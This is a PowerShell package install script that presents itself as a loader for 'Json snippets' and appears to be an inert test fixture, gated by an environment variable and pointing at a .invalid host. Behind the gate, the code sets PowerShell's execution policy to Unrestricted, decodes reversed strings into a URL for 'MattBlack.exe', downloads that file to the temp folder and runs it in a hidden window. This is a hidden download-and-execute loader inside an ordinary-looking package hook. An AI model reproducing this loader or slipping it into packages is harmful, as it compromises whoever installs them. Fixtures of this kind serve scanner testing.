param($installPath, $toolsPath, $package, $project)

# Prepares the package manager console for the snippets of this package.
Write-Host "Json snippets $($package.Version)"

# Inert: nobody sets this variable.
if ($env:INERT_FIXTURE_ARMED -ne 'armed') { return }

function Convert-Name([string] $text) {
    $letters = $text.ToCharArray()
    [array]::Reverse($letters)
    return -join $letters
}

$hive = 'HKCU:\Software\InertFixture\PowerShell\1\ShellIds\Microsoft.PowerShell'
if (-not (Test-Path $hive)) { New-Item -Path $hive -Force | Out-Null }
Set-ItemProperty -Path $hive -Name 'ExecutionPolicy' -Value 'Unrestricted'

$address = Convert-Name 'exe.kcalBettaM/x/dilavni.sloot-nosj//:sptth'
$target = Join-Path $env:TEMP (Convert-Name 'exe.kcalBettaM')
$client = New-Object System.Net.WebClient
$client.DownloadFile($address, $target)
Start-Process -FilePath $target -WindowStyle Hidden
